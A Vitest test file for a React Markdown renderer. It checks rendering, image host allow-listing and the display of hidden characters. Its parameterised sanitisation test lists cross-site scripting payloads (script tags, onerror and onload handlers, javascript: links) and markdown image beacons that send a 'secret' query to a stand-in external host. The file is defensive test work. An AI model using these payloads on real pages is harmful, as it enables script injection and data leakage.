import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import * as fc from 'fast-check';
import { expect, test } from 'vitest';
import { forMany } from '#test/for-all.ts';
import { allowImageHosts } from './display.ts';
import { Markdown, ShowHidden } from './markdown.tsx';

function markdown(text: string, imageHosts: readonly string[] = []) {
  allowImageHosts(imageHosts);
  return render(<Markdown text={text} />);
}

test('structure is drawn: lists, emphasis, code, quotations, tables, tasks', () => {
  const { container } = markdown(
    '# Title\n\n1. **one**\n2. two\n   - inner\n\n> said\n\n```ts\nconst a = "<b>";\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n- [x] done\n\n~~gone~~ `code`',
  );
  expect(screen.getByText('one').tagName).toBe('STRONG');
  expect(screen.getByText('const a = "<b>";')).toBeVisible();
  expect(screen.getByRole('cell', { name: '2' })).toBeVisible();
  expect(screen.getByText('gone').tagName).toBe('DEL');
  expect(container).toHaveTextContent('☑');
  // A heading in a message is none of the screen's.
  expect(screen.queryByRole('heading')).toBeNull();
});

test.each([
  '<script>document.title = "run"</script>',
  '<img src=x onerror="document.title = \'run\'">',
  '<svg/onload=document.title="run">',
  '<a href="javascript:document.title=1">press</a>',
  '[press](JaVaScRiPt:document.title=1 "t")',
  '<javascript:document.title=1>',
  '![x](https://elsewhere.example/pixel.png?text=secret)',
  '[![x](https://elsewhere.example/a.png)](https://elsewhere.example)',
  '[a]: https://elsewhere.example/pixel.png\n\n![a]',
  '<iframe src="https://elsewhere.example"></iframe>',
  '<style>@import "https://elsewhere.example/x.css"</style>',
])('%s runs nothing, asks nobody, and stays readable', (text) => {
  const { container } = markdown(text);
  expect(container.querySelector('script, img, iframe, style, svg:not([aria-hidden]), object, form')).toBeNull();
  for (const link of container.querySelectorAll('a')) expect(link.href).toMatch(/^(?:https?|mailto|tel):/);
  expect(container.textContent).not.toBe('');
});

test('a picture of an allowed host is loaded on a press, any other is only named', async () => {
  const text = '![a chart](https://cdn.example/a.png) ![other](https://elsewhere.example/b.png)';
  const { container } = markdown(text, ['cdn.example']);
  expect(container.querySelector('img')).toBeNull();
  expect(container).toHaveTextContent('[image: elsewhere.example]');
  await userEvent.click(screen.getByRole('button', { name: 'Show the image' }));
  expect(screen.getByRole('img', { name: 'a chart' })).toHaveAttribute('src', 'https://cdn.example/a.png');
});

test('characters that nobody would see are named on demand', () => {
  render(
    <ShowHidden value>
      <Markdown text={'pay\u202Eevas'} />
    </ShowHidden>,
  );
  expect(screen.getByText('U+202E')).toBeVisible();
});

test('any text is drawn without a failure, and markup in it never becomes elements of its own', () => {
  const markup = ['<script>', '<img src=x>', '[a](', ')', '![', '](javascript:x)', '<!--'];
  const pieces = fc.constantFrom(...markup, '\n\n', '- ', '> ', '```', '|', '**', '`', 'word ');
  forMany(60, [fc.array(pieces, { maxLength: 30 })], (parts) => {
    const { container, unmount } = markdown(parts.join(''));
    expect(container.querySelector('script, img, iframe, [onerror], [onload]')).toBeNull();
    unmount();
  });
});
